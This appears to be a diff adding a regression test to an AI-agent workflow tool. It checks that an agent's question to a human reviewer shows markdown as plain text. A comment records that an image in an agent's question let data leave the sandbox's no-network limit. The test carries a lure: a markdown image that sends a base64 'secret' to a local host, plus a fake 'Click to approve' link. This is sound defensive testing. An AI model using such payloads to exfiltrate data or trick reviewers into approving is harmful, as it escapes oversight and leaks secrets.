@@ -350,3 +350,27 @@ def test_a_run_its_budget_stopped_waits_for_no_answer_and_its_resume_asks_again(
     assert outcome.summary["tasks"]["a"]["state"] == "pending"
     session = load_session(repo, outcome.summary["session_id"])
     assert session.question is None and session.status == "stopped"
+
+
+def test_the_agents_words_next_to_the_form_are_text_not_markdown(tmp_path):
+    # An image in the agent's question was fetched by the reviewer's browser as the question
+    # showed: a way out of the sandbox's no-network, to a server the agent chose.
+    from types import SimpleNamespace
+
+    from aca_flows.agent.execute import TaskOutcome
+    from aca_flows.flows.task_help import _question
+    from aca_flows.plan.models import ExecutionPlan, Task
+
+    plan = ExecutionPlan(name="p", tasks=[Task(id="a", title="write a.txt", verify="true")])
+    run = SimpleNamespace(plan=plan, session_id="s1", workdir=tmp_path)
+    lure = "![status](http://127.0.0.1:47999/leak.png?d=c2VjcmV0) [Click to approve](http://x/y)"
+    asked = TaskOutcome(task_id="a", status="failed", human_question=f"Which style?\n{lure}")
+    failed = TaskOutcome(
+        task_id="a", status="failed", failure_reason=f"the agent gave up: {lure}",
+        verify_command="make `x`", verify_output="boom",
+    )  # fmt: skip
+
+    for outcome in (asked, failed):
+        shown = _question(run, "a", outcome)
+        assert "![status](" not in shown and "[Click to approve](" not in shown, shown
+        assert "status" in shown and "Click to approve" in shown
